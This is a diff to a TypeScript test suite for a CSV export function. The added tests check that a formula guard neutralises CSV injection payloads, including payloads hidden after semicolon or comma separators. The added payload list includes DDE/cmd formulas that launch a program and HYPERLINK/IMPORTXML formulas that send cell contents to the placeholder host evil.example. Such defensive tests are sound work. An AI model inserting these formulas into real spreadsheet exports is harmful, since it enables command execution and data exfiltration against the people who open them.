@@ -15,6 +15,41 @@ describe("neutralizeCell", () => {
   });
 });
 
+// OWASP's CSV injection payloads, and the same hidden after a separator, where a spreadsheet that splits on
+// another character (Excel with ";") would start a new cell.
+const OWASP_PAYLOADS = [
+  "=cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example?x="&A1&A2,"Error: click here")',
+  "=IMPORTXML(CONCAT(\"http://evil.example?v=\", CONCATENATE(A2:E2)), \"//a\")",
+  '"=1+1"',
+  "\t=1+1",
+  "\r=1+1",
+  "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+];
+const HIDDEN = OWASP_PAYLOADS.flatMap((payload) => [payload, `thanks;${payload}`, `a,${payload}`, `x\n${payload}`, `ok;"${payload}`, `1;-1`]);
+const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);
+
+describe("the formula guard", () => {
+  it("leaves no cell that a spreadsheet would evaluate, read with ',' or, as Excel does in many locales, with ';'", () => {
+    const csv = toCsv(["comment", "n"], HIDDEN.map((text) => [text, 1]));
+    const byComma = parse(csv) as string[][];
+    expect(byComma.slice(1).map((row) => row[0])).toEqual(HIDDEN.map(neutralizeCell));
+    // Excel splitting on ";" reads quotes in the middle of a field literally: relax_quotes does the same.
+    const bySemicolon = parse(csv, { delimiter: ";", relax_quotes: true, relax_column_count: true }) as string[][];
+    const cells = [...byComma.flat(), ...bySemicolon.flat()];
+    expect(cells.filter(isFormula)).toEqual([]);
+    expect(bySemicolon.length).toBe(byComma.length);
+  });
+
+  it("guards text after every separator, and quotes any cell holding a separator, quote or line break", () => {
+    expect(neutralizeCell("thanks;=1+1")).toBe("thanks;'=1+1");
+    expect(toCsv(["c"], [["thanks;=1+1"], ["a;b"], ["plain"]])).toBe('c\r\n"thanks;\'=1+1"\r\n"a;b"\r\nplain\r\n');
+  });
+});
+
 describe("toCsv", () => {
   it("quotes per RFC 4180 with CRLF line ends and round-trips hostile text", () => {
     const hostile = ['"quoted, with comma"', "line\nbreak", "emoji 🐍", "עברית right-to-left"];
@@ -48,7 +83,7 @@ describe("csvContentDisposition", () => {
 
 describe("toCsvRecords", () => {
   const cell = fc.oneof(
-    fc.string({ unit: fc.constantFrom("a", "é", "🐍", ",", '"', "\r", "\n", "=", "+", "-", "@", "\t", " ", "'", "|") }),
+    fc.string({ unit: fc.constantFrom("a", "é", "🐍", ",", ";", '"', "\r", "\n", "=", "+", "-", "@", "\t", " ", "'", "|") }),
     fc.string(),
     fc.integer(),
     fc.boolean(),
